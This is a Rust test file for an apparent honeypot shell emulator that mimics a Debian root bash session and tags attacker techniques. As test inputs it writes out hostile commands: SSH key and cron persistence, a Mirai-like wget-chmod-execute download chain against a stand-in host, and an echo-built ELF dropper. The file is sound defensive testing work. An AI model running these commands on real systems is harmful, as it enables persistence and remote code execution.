use super::*;

fn shell() -> Shell {
    Shell::new(
        Profile {
            hostname: "srv01".into(),
            user: "root".into(),
            flavor: Flavor::Bash,
            client_ip: "10.0.0.9".into(),
        },
        true,
    )
}

fn out(r: &LineResult) -> String {
    String::from_utf8_lossy(&r.terminal).into_owned()
}

fn techniques(r: &LineResult) -> Vec<String> {
    r.effects
        .iter()
        .filter_map(|e| match e {
            Effect::Attack { technique, .. } => Some(technique.clone()),
            _ => None,
        })
        .collect()
}

#[test]
fn basic_commands_print_like_debian() {
    let mut sh = shell();
    assert_eq!(sh.prompt(), b"root@srv01:~# ");
    assert_eq!(
        out(&sh.run_line(b"id")),
        "uid=0(root) gid=0(root) groups=0(root)\n"
    );
    // id's selections and refusals, as coreutils 9.1 prints them.
    for (line, want) in [
        ("id -u", "0\n"),
        ("id -un", "root\n"),
        ("id -g -n", "root\n"),
        ("id -G", "0\n"),
        ("id --user root", "0\n"),
        (
            "id -x",
            "id: invalid option -- 'x'\nTry 'id --help' for more information.\n",
        ),
        (
            "id -n",
            "id: cannot print only names or real IDs in default format\n",
        ),
        (
            "id -ug",
            "id: cannot print \"only\" of more than one choice\n",
        ),
        ("id nosuch", "id: \u{2018}nosuch\u{2019}: no such user\n"),
    ] {
        assert_eq!(out(&sh.run_line(line.as_bytes())), want, "{line}");
    }
    assert_eq!(
        out(&sh.run_line(b"uname -a")),
        "Linux srv01 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22) x86_64 GNU/Linux\n"
    );
    assert_eq!(out(&sh.run_line(b"uname -snm")), "Linux srv01 x86_64\n");
    assert_eq!(out(&sh.run_line(b"foo")), "-bash: foo: command not found\n");
    assert_eq!(sh.status, 127);
    assert_eq!(out(&sh.run_line(b"echo $?")), "127\n");
    assert_eq!(out(&sh.run_line(b"cd /tmp; pwd")), "/tmp\n");
    assert_eq!(sh.prompt(), b"root@srv01:/tmp# ");
    assert_eq!(out(&sh.run_line(b"nproc && echo ok || echo no")), "2\nok\n");
    assert_eq!(out(&sh.run_line(b"false || echo 'a  b'")), "a  b\n");
    assert!(out(&sh.run_line(b"cat /etc/os-release")).contains("bookworm"));
    assert_eq!(
        out(&sh.run_line(b"cat /proc/cpuinfo | grep 'model name' | wc -l")),
        "2\n"
    );
    assert_eq!(
        out(&sh.run_line(b"echo 'x")),
        "-bash: unexpected EOF while looking for matching `''\n"
    );
    let r = sh.run_line(b"exit");
    assert!(r.exit);
}

#[test]
fn exec_mode_errors_name_the_line() {
    let mut sh = shell();
    sh.interactive = false;
    assert_eq!(
        out(&sh.run_line(b"nosuch")),
        "bash: line 1: nosuch: command not found\n"
    );
}

#[test]
fn files_written_are_effects_and_persistence_is_tagged() {
    let mut sh = shell();
    let r = sh.run_line(b"echo ssh-rsa AAAA >> ~/.ssh/authorized_keys");
    assert!(
        r.effects
            .iter()
            .any(|e| matches!(e, Effect::FileWritten { path, data }
        if path == "/root/.ssh/authorized_keys" && data == b"ssh-rsa AAAA\n"))
    );
    assert_eq!(techniques(&r), ["shell.persistence"]);
    let r = sh.run_line(b"echo '* * * * * /tmp/x' | crontab -");
    assert_eq!(techniques(&r), ["shell.persistence"]);
    assert_eq!(out(&sh.run_line(b"crontab -l")), "* * * * * /tmp/x\n");
    assert_eq!(
        out(&sh.run_line(b"echo hi > /tmp/a; cat /tmp/a; ls /tmp")),
        "hi\na\n"
    );
    assert_eq!(out(&sh.run_line(b"cat /nope 2>/dev/null; echo $?")), "1\n");
}

#[test]
fn mirai_like_session() {
    let mut sh = shell();
    let r = sh.run_line(b"enable");
    assert_eq!(out(&r), "-bash: enable: command not found\n");
    let r = sh.run_line(b"/bin/busybox ECCHI");
    assert_eq!(out(&r), "ECCHI: applet not found\n");
    assert_eq!(techniques(&r), ["shell.busybox_probe"]);
    let r = sh.run_line(b"/bin/busybox cat /proc/cpuinfo | head -n 2");
    assert_eq!(out(&r), "processor\t: 0\nvendor_id\t: GenuineIntel\n");
    let r = sh.run_line(b"cd /tmp; wget http://x/y.sh; chmod +x y.sh; ./y.sh");
    let text = out(&r);
    assert!(
        text.contains("wget: unable to resolve host address"),
        "{text}"
    );
    assert!(
        text.contains("chmod: cannot access 'y.sh': No such file or directory"),
        "{text}"
    );
    assert!(
        text.ends_with("-bash: ./y.sh: No such file or directory\n"),
        "{text}"
    );
    assert_eq!(techniques(&r), ["shell.download"]);
    let cmds: Vec<String> = r
        .effects
        .iter()
        .filter_map(|e| match e {
            Effect::Command { name, .. } => Some(name.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(cmds, ["cd", "wget", "chmod", "./y.sh"]);
    // A dropper written by echo, made executable and run.
    let r = sh.run_line(b"echo -e '\\x7fELF' > d; chmod 755 d; ./d");
    assert!(techniques(&r).contains(&"shell.execute".to_string()));
}

#[test]
fn nesting_and_command_count_are_bounded() {
    let mut sh = shell();
    let r = sh.run_line(b"sh -c 'bash -c \"echo deep\"'");
    assert_eq!(out(&r), "deep\n");
    let line = "true;".repeat(1000);
    let r = sh.run_line(line.as_bytes());
    let n = r
        .effects
        .iter()
        .filter(|e| matches!(e, Effect::Command { .. }))
        .count();
    assert!(n <= MAX_COMMANDS);
}
